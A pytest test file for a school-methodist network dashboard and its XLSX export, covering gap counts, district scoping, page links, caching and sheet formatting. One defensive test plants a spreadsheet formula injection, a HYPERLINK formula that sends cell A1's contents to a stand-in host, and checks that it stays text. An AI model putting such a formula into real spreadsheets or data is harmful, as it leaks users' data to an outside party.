"""The working dashboard and its XLSX, on the hand-built network of :mod:`tests.viz_dataset`
(answers known by construction, see its docstring), on both stores.

Teachers without a methodist in 2025-H1: the six of vsev-s2 (t23–t28) and t04 (mentored by a
teacher, not a methodist); of them only t04 and t24 are young specialists and none has
deficits, so the card counts 2 of 7.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pytest
import typer
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from api.main import create_app
from graph.model import Assessment, Batch, Organization
from graph.queries.gaps import teachers_needing_methodist, teachers_without_methodist
from graph.queries.scope import Scope
from graph.settings import Settings
from graph.store import MemoryStore, Store
from tests.callers import caller_headers
from tests.test_browser_screen import ENGLISH, INTERNAL_ID
from tests.test_viz_screen import with_extras
from tests.viz_dataset import PERIOD, SCHOOLS, TEACHER_NAMES
from viz.dashboard import CARDS, MAX_ROWS, DashboardCache, dashboard
from viz.page import dashboard_page
from viz.workbook import SHEET_LIMIT, SHEETS, gaps_xlsx

BASE = "http://127.0.0.1:8000/"


@pytest.fixture
def extras(store: Store) -> Store:
    return with_extras(store)


def _codes(board: Any) -> dict[str, list[str]]:
    return {g.code: [i.node_id for i in g.items] for g in board.gaps}


# -- what the cards count ----------------------------------------------------------------------
def test_teachers_without_a_methodist_count_only_with_deficits_or_young(extras: Store) -> None:
    everyone = teachers_without_methodist(extras, territory_id="RU-LEN", period=PERIOD)
    assert sorted(g.node_id for g in everyone) == ["t04", *(f"t{i}" for i in range(23, 29))]
    needing = teachers_needing_methodist(extras, territory_id="RU-LEN", period=PERIOD)
    assert [g.node_id for g in needing] == ["t04", "t24"]
    assert all(g.reason_ru.endswith("; молодой педагог") for g in needing)
    board = dashboard(extras, "RU-LEN", PERIOD)
    card = next(g for g in board.gaps if g.code == "teacher_without_methodist")
    assert [i.node_id for i in card.items] == ["t04", "t24"]
    assert card.note == "всего педагогов без закреплённого методиста: 7"
    assert "дефициты" in card.counts and "молодые педагоги" in card.counts


def test_a_teacher_with_deficits_counts_unless_a_methodist_supports_them(store: Store) -> None:
    from graph.model import HasDeficit

    with_extras(store)
    b = Batch()
    b.add(HasDeficit(source="t36", target="c-methods", date="2025-02-10"))  # m-kuznetsov's
    b.add(HasDeficit(source="t25", target="c-methods", date="2025-02-10"))  # nobody's
    store.write(b)
    found = teachers_needing_methodist(store, territory_id="RU-LEN", period=PERIOD)
    assert [g.node_id for g in found] == ["t04", "t24", "t25"]
    assert found[2].reason_ru == "за педагогом не закреплён методист; дефициты: математика"
    assert found[2].value == 1


def test_cards_problems_first_each_saying_what_it_counts_with_a_trend(extras: Store) -> None:
    board = dashboard(extras, "RU-LEN", PERIOD)
    assert [g.code for g in board.gaps] == [c.code for c in CARDS]
    assert [g.code for g in board.gaps][:2] == ["unsupported_low_results_school",
                                               "mismatched_low_results_school"]
    assert all(g.counts and not re.search(r"[a-z_]{4,}", g.counts) for g in board.gaps)
    # 2024-H2 was monitored: every card has its trend, not only the low-results ones.
    assert all(g.previous is not None for g in board.gaps)
    trends = {g.code: (len(g.items), g.previous) for g in board.gaps}
    assert trends["unsupported_low_results_school"] == (1, 0)
    assert trends["deficit_without_route"] == (2, 0)  # diagnosed in February 2025
    assert trends["methodist_over_load"] == (1, 1)
    assert board.districts == [("RU-LEN-vsevolozhsky", "Всеволожский муниципальный район"),
                               ("RU-LEN-luzhsky", "Лужский муниципальный район")]
    # The period before is counted without building its rows: its counts are its lists'.
    before = dashboard(extras, "RU-LEN", "2024-H2")
    assert [g.previous for g in board.gaps] == [len(g.items) for g in before.gaps]
    assert any(g.previous for g in board.gaps)


def test_rows_name_schools_with_their_place_and_teachers_with_their_school(
        extras: Store) -> None:
    board = dashboard(extras, "RU-LEN", PERIOD)
    unsupported = board.gaps[0].items[0]
    assert unsupported.name == f"{SCHOOLS['vsev-s2'][0]}, Всеволожский район"
    assert (unsupported.territory_id, unsupported.link) == ("RU-LEN-vsevolozhsky",
                                                            "/network/school/vsev-s2")
    routes = next(g for g in board.gaps if g.code == "deficit_without_route")
    assert routes.columns == ["Школа", "Кто мог бы взять"]
    assert [(i.name, i.extra["Школа"]) for i in routes.items] == [
        (TEACHER_NAMES[t], f"{SCHOOLS['vsev-s1'][0]}, Всеволожский район") for t in ("t01", "t03")]
    assert routes.items[0].link == "/network/focus/t01?depth=1"
    pools = next(g for g in board.gaps if g.code == "district_without_methodist_pool")
    assert {i.link for i in pools.items} == {"/network/district/RU-LEN-vsevolozhsky",
                                             "/network/district/RU-LEN-luzhsky"}
    schools = next(g for g in board.gaps if g.code == "school_without_methodological_service")
    assert schools.by_district() == {"RU-LEN-vsevolozhsky": 1, "RU-LEN-luzhsky": 1}


def test_a_district_coordinator_sees_their_district_only(extras: Store) -> None:
    board = dashboard(extras, "RU-LEN-luzhsky", PERIOD, scope=Scope.of(["RU-LEN-luzhsky"]))
    codes = _codes(board)
    assert codes["unsupported_low_results_school"] == []
    assert codes["school_without_methodological_service"] == ["luga-s1"]
    assert {i.territory_id for g in board.gaps for i in g.items} <= {"RU-LEN-luzhsky"}
    assert board.districts == [("RU-LEN-luzhsky", "Лужский муниципальный район")]


# -- the page ----------------------------------------------------------------------------------
def test_page_folds_sections_and_links_figures_to_lists_and_lists_to_the_network() -> None:
    board = dashboard(with_extras(MemoryStore()), "RU-LEN", PERIOD)
    html = dashboard_page(board, [])
    sections = re.findall(r'<details class="fold gap-section" id="gap-([a-z_]+)"( open)?>', html)
    assert [code for code, _ in sections] == [c.code for c in CARDS]
    assert [bool(o) for _, o in sections] == [True, True] + [False] * (len(CARDS) - 2)
    for card in CARDS:  # every card's figure opens its list
        assert f'href="#gap-{card.code}" data-gap="{card.code}"' in html
    # The gaps per district: each figure opens its list filtered to the district.
    assert ('href="/dashboard?period=2025-H1&amp;territory=RU-LEN&amp;district=RU-LEN-luzhsky'
            '#gap-school_without_methodological_service">1</a>') in html
    assert '<option value="RU-LEN-luzhsky">Лужский муниципальный район</option>' in html
    # From a list to the network, in the period on screen.
    assert 'href="/network/school/vsev-s2?period=2025-H1"' in html
    assert 'href="/network/focus/t01?period=2025-H1&amp;depth=1"' in html
    assert '<script src="/static/tables.js"></script>' in html
    assert "полный список — в отчёте XLSX" not in html  # the bound is stated only when it cuts


def test_a_list_longer_than_the_bound_says_the_rest_is_in_the_xlsx() -> None:
    store = with_extras(MemoryStore())
    b = Batch()
    for i in range(MAX_ROWS + 3):
        b.add(Organization(id=f"luga-x{i}", name=f"Школа № {i + 10}", kind="school",
                           level="institutional", territory_id="RU-LEN-luzhsky",
                           school_kind="general"))
    store.write(b)
    board = dashboard(store, "RU-LEN", PERIOD)
    html = dashboard_page(board, [])
    table = html.split('data-gap="school_without_methodological_service"')[2]
    assert table.split("</table>")[0].count("<tr data-district=") == MAX_ROWS
    assert f"первые {MAX_ROWS} из {MAX_ROWS + 5}; полный список — в отчёте XLSX" in html
    sheet = load_workbook(io.BytesIO(gaps_xlsx(board)))["ОО без методической службы"]
    assert sheet.max_row == 2 + MAX_ROWS + 5


def test_cache_keeps_several_dashboards_and_one_per_period_however_asked(
        extras: Store) -> None:
    cache = DashboardCache()
    region = cache.get(extras, "RU-LEN")
    district = cache.get(extras, "RU-LEN-luzhsky")
    assert cache.get(extras, "RU-LEN") is region  # the second entry did not drop the first
    assert cache.get(extras, "RU-LEN", PERIOD) is region  # the latest flagged period
    assert cache.get(extras, "RU-LEN-luzhsky", PERIOD) is district
    b = Batch()
    b.add(Assessment(id="a-new", period=PERIOD))
    extras.write(b)
    assert cache.get(extras, "RU-LEN") is not region  # a write makes a new revision


# -- the XLSX ----------------------------------------------------------------------------------
def _workbook(store: Store, territory: str = "RU-LEN", base: str | None = BASE) -> Any:
    return load_workbook(io.BytesIO(gaps_xlsx(dashboard(store, territory, PERIOD), base)))


def _words(text: str) -> list[str]:
    return re.findall(r"[а-яёa-z]+", text.casefold())


def test_sheet_names_are_complete_and_none_is_cut(extras: Store) -> None:
    wb = _workbook(extras)
    assert wb.sheetnames == SHEETS
    assert wb.sheetnames[0] == "Сводка"
    assert len(set(SHEETS)) == len(SHEETS)
    for name in SHEETS:
        assert len(name) <= SHEET_LIMIT, name
        assert not set(name) & set("[]:*?/\\"), name
    for card in CARDS:
        # Every word of the sheet's name is a word of the card (or its stem), not a stump.
        said = _words(card.name + " " + card.counts)
        for word in _words(card.sheet):
            assert word in said or (len(word) >= 5 and any(w.startswith(word[:5])
                                                           for w in said)), (card.sheet, word)


def test_summary_first_then_lists_with_frozen_headers_filters_sized_columns_and_links(
        extras: Store) -> None:
    wb = _workbook(extras)
    summary = wb["Сводка"]
    rows = list(summary.iter_rows(min_row=3, values_only=True))
    assert [r[0] for r in rows] == [c.name for c in CARDS]
    assert rows[0][:4] == ("ШНОР без адресной поддержки", 1, 0, 1)
    assert rows[3][4].endswith("всего педагогов без закреплённого методиста: 7")
    first_link = summary.cell(row=3, column=6).hyperlink
    assert first_link.location == "'ШНОР без поддержки'!A1"
    assert summary.cell(row=3, column=7).hyperlink.target == \
        BASE + "dashboard?period=2025-H1&territory=RU-LEN#gap-unsupported_low_results_school"
    for ws in wb.worksheets:
        assert ws.freeze_panes in ("A3", "B3"), ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A2:"), ws.title
        for index in range(1, ws.max_column + 1):
            letter = ws.cell(row=2, column=index).column_letter
            assert (ws.column_dimensions[letter].width or 0) >= 10, (ws.title, letter)
    sheet = wb["ШНОР без поддержки"]
    assert [c.value for c in sheet[2]] == ["Название", "Район", "Подробности",
                                           "Кто мог бы взять", "Сеть"]
    assert sheet["A3"].value == f"{SCHOOLS['vsev-s2'][0]}, Всеволожский район"
    assert sheet["E3"].hyperlink.target == BASE + f"network/school/vsev-s2?period={PERIOD}"
    teachers = wb["Педагоги без методиста"]
    assert [c.value for c in teachers[2]] == ["Название", "Район", "Подробности", "Школа",
                                              "Кто мог бы взять", "Сеть"]
    assert teachers["F3"].hyperlink.target == BASE + f"network/focus/t04?depth=1&period={PERIOD}"


def test_no_cell_shows_an_id_a_code_or_english(extras: Store) -> None:
    wb = _workbook(extras)
    cells = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None and not isinstance(c.value, int | float)]
    text = "\n".join([*cells, *wb.sheetnames])
    assert not INTERNAL_ID.findall(text), sorted(set(INTERNAL_ID.findall(text)))
    english = [w for w in ENGLISH if w in text.casefold()]
    assert not english, english
    assert not [c for c in cells if c.startswith("=")]  # links are links, not formulas


def test_a_formula_in_a_name_stays_text(store: Store) -> None:
    with_extras(store)
    b = Batch()
    b.add(Organization(id="luga-evil", name='=HYPERLINK("http://x.example/?"&A1,"школа")',
                       kind="school", level="institutional", territory_id="RU-LEN-luzhsky",
                       school_kind="general"))
    store.write(b)
    sheet = _workbook(store)["ОО без методической службы"]
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value is not None]
    evil = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
    assert evil and all(c.data_type == "s" for c in evil)


def test_the_download_is_the_callers_and_named_in_russian() -> None:
    app = create_app(store=with_extras(MemoryStore()), settings=Settings(load_norm=25))
    client = TestClient(app)
    headers = caller_headers(app, Scope.of(["RU-LEN-luzhsky"]))
    r = client.get(f"/dashboard/gaps.xlsx?period={PERIOD}", headers=headers)
    assert r.status_code == 200
    assert "filename*=UTF-8''" in r.headers["content-disposition"]
    wb = load_workbook(io.BytesIO(r.content))
    assert wb["ОО без методической службы"]["A3"].value == \
        f"{SCHOOLS['luga-s1'][0]}, Лужский район"
    text = "\n".join(str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True)
                     for c in row if c is not None)
    assert "Всеволож" not in text  # nothing of the district next door


def test_cli_report_is_the_coordinators_xlsx(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from cli.report import register

    monkeypatch.setenv("METHODNET_STORE_PATH", str(tmp_path / "store"))
    monkeypatch.setenv("METHODNET_STORE", "memory")
    store = MemoryStore(tmp_path / "store")
    with_extras(store)
    store.close()
    app = typer.Typer()
    register(app)
    out = tmp_path / "gaps.xlsx"
    runner = CliRunner()
    result = runner.invoke(app, ["-t", "RU-LEN", "-p", PERIOD, "-o", str(out),
                                 "--link-base", "http://127.0.0.1:8024"])
    assert result.exit_code == 0, result.output
    wb = load_workbook(out)
    assert wb.sheetnames == SHEETS
    assert wb["ШНОР без поддержки"]["E3"].hyperlink.target == \
        f"http://127.0.0.1:8024/network/school/vsev-s2?period={PERIOD}"
    refused = runner.invoke(app, ["-o", str(tmp_path / "gaps.csv")])
    assert refused.exit_code == 1 and "отчёт — файл .xlsx" in refused.output
